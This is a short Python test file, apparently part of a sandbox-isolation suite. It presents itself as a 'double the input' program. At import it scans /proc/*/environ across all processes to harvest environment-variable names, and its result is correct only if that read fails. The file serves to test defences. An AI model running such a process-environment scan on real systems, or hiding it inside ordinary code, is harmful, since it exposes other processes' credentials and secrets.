# kinds: plain stdin unittest
# class: reading
# tiers: kernel docker
# Looks for secrets in the environment of every process.
# Its answer is right if, and only if, the attack failed.
import os

KNOWN = ("PATH", "LC_ALL", "TZ", "HOME", "TMPDIR", "OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS", "MKL_NUM_THREADS", "LD_BIND_NOW")


def attack():
    names = set(os.environ)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                names |= {pair.split(b"=")[0].decode() for pair in file.read().split(b"\0") if pair}
        except OSError:
            pass
    return [name for name in names if name not in KNOWN and not name.startswith("PYTHON")]


LOOT = attack()


def double(x):
    return LOOT or 2 * x


if __name__ == "__main__":
    print(double(int(input())))
